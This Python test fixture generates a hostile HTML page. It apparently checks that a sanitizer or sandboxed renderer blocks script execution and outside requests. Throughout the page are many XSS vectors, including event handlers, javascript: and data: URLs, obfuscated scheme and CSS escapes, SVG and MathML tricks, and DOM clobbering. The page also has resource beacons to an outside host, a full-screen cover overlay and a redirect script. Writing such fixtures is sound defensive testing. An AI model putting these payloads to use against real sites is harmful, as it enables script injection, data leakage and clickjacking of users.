"""A page that tries to run scripts, load files, open windows, navigate and cover the frame."""

# ruff: noqa: E501 - a page, not code
from __future__ import annotations

CANARY = "(window.canary=1,top.canary=1,parent.canary=1)"
DOT = "data:image/gif;base64,R0lGODlhAQABAIAAAP8AAP8AACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw=="
"""An image that may be shown."""
_EVENTS = (
    "load error click mouseover mousemove mouseenter pointerdown pointerover pointerenter focus "
    "focusin blur toggle animationstart animationend transitionrun begin end scroll wheel input "
    "change submit beforetoggle contextmenu auxclick dblclick keydown keyup paste drag dragstart "
    "touchstart securitypolicyviolation"
).split()


def page(elsewhere: str) -> str:
    """The source of the page; `elsewhere` is a server that must get no request."""
    number = iter(range(10_000))

    def away(kind: str = "x") -> str:
        return f"{elsewhere}/{kind}/{next(number)}"

    handlers = " ".join(f'on{event}="{CANARY}"' for event in _EVENTS)
    svg = (
        f'<svg onload="{CANARY}" width="40" height="40"><script>{CANARY}</script>'
        f'<image href="{away("svg")}" xlink:href="{away("svg")}" width="9" height="9"/>'
        f'<use href="{away("svg")}#a"/><feImage href="{away("svg")}"/>'
        f'<a href="javascript:{CANARY}"><text id="svglink" y="20">svg link</text></a>'
        f'<animate onbegin="{CANARY}" attributeName="x" dur="1s"/>'
        f'<set attributeName="href" to="javascript:{CANARY}"/>'
        f'<foreignObject><iframe src="{away("frame")}"></iframe><img src=x onerror="{CANARY}">'
        f"</foreignObject><style>@import '{away('css')}';</style></svg>"
    )
    return f"""<!doctype html><html {handlers} style="background:url({away("css")})"><head>
<meta http-equiv=refresh content="0;url={away("refresh")}">
<meta http-equiv=Content-Security-Policy content="default-src *">
<base href="{elsewhere}/base/" target=_top>
<script>{CANARY}; window.name = 'stolen'; open('{away("open")}'); alert(1)</script>
<script src="{away("script")}"></script><script type=module>import '{away("module")}'</script>
<link rel=stylesheet href="{away("css")}"><link rel=preload as=image href="{away("preload")}">
<link rel=prefetch href="{away("prefetch")}"><link rel=dns-prefetch href="//prefetch.invalid">
<link rel=preconnect href="{elsewhere}"><link rel=modulepreload href="{away("module")}">
<link rel=icon href="{away("icon")}"><link rel=manifest href="{away("manifest")}">
<style>
@import "{away("css")}"; @import url({away("css")}); @\\69mport '{away("css")}';
@font-face {{ font-family: stolen; src: url({away("font")}) }}
body {{ font-family: stolen, serif; background-image: u\\72l({away("css")}); cursor: url({away("css")}), auto }}
p {{ background: image-set("{away("css")}" 1x); list-style-image: url('{away("css")}') }}
p::before {{ content: url("{away("css")}") }} li {{ list-style: url({away("css")}) }}
div {{ border-image: url({away("css")}) 1; mask: url({away("css")}); filter: url({away("css")}#f);
  clip-path: url({away("css")}#c); shape-outside: url({away("css")}); behavior: url({away("css")});
  -moz-binding: url({away("css")}) }}
:root {{ --leak: url({away("css")}) }} h1 {{ background: var(--leak) }}
@media screen {{ a {{ background: url( "{away("css")}" ) }} }}
@keyframes k {{ from {{ background: url({away("css")}) }} }} h2 {{ animation: k 1s infinite }}
</style></head>
<body {handlers} background="{away("image")}"><h1>A hostile page</h1><img src="{DOT}"><h2>moving</h2>
<p id=text {handlers} style="background:url({away("css")});background:u\\rl({away("css")})">Some text.
<a id=script href="javascript:{CANARY}" ping="{away("ping")}">javascript</a>
<a id=tab href=" java&#9;script:{CANARY}" target=_blank>tab</a>
<a id=data href="data:text/html,<script>{CANARY}</script>" target=_top>data</a>
<a id=plain href="{away("link")}" target=_blank ping="{away("ping")}" download>plain</a>
<a id=top href="{away("link")}" target=_top>top</a><a id=self href="{away("link")}">self</a></p>
<form id=form action="{away("form")}" target=_top onsubmit="{CANARY}"><input autofocus onfocus="{CANARY}"
 name=appendChild><input name=parentNode id=setAttribute><button id=send
 formaction="javascript:{CANARY}">send</button><input type=image src="{away("image")}">
<button id=pop popovertarget=over>pop</button><textarea autofocus onfocus="{CANARY}"></textarea></form>
<div id=over popover>over</div><img name=body id=createElement src="{away("image")}" {handlers}>
<img srcset="{away("image")} 1x, {away("image")} 2x" sizes=1px loading=eager><img src="data:image/svg+xml,
<svg xmlns='http://www.w3.org/2000/svg' onload='{CANARY}'/>"><img lowsrc="{away("image")}" dynsrc=x>
<picture><source srcset="{away("image")}"><img src="{away("image")}"></picture>
<video src="{away("media")}" poster="{away("image")}" autoplay><track src="{away("media")}" default>
</video><audio src="{away("media")}" autoplay></audio><bgsound src="{away("media")}">
<iframe src="{away("frame")}"></iframe><iframe srcdoc="<script>{CANARY}</script>"></iframe>
<iframe src="javascript:{CANARY}"></iframe><object data="{away("object")}"></object>
<object data="data:text/html,<script>{CANARY}</script>"></object><embed src="{away("object")}">
<applet code=x archive="{away("object")}"></applet>{svg}
<math><a href="javascript:{CANARY}" xlink:href="javascript:{CANARY}"><mtext id=math>math</mtext></a>
<maction actiontype="statusline#{away("math")}"><mi>x</mi></maction><annotation-xml
 encoding="text/html"><img src=x onerror="{CANARY}"></annotation-xml></math>
<template><img src="{away("image")}" onerror="{CANARY}"></template>
<div><template shadowrootmode=open><img src="{away("image")}" onerror="{CANARY}"><style>@import
 "{away("css")}"</style><slot></slot></template>shadow</div><marquee onstart="{CANARY}">m</marquee>
<details open ontoggle="{CANARY}"><summary>s</summary>d</details><table background="{away("image")}">
<tr><td background="{away("image")}">cell</table><noscript><img src="{away("image")}"></noscript>
<x-a is=b {handlers} tabindex=0 contenteditable autofocus accesskey=x>custom</x-a>
<div id=cover style="position:fixed;inset:0;z-index:2147483647;background:url({away("css")})"></div>
<script>document.body.innerHTML = ''; location = '{away("location")}'</script></body></html>"""
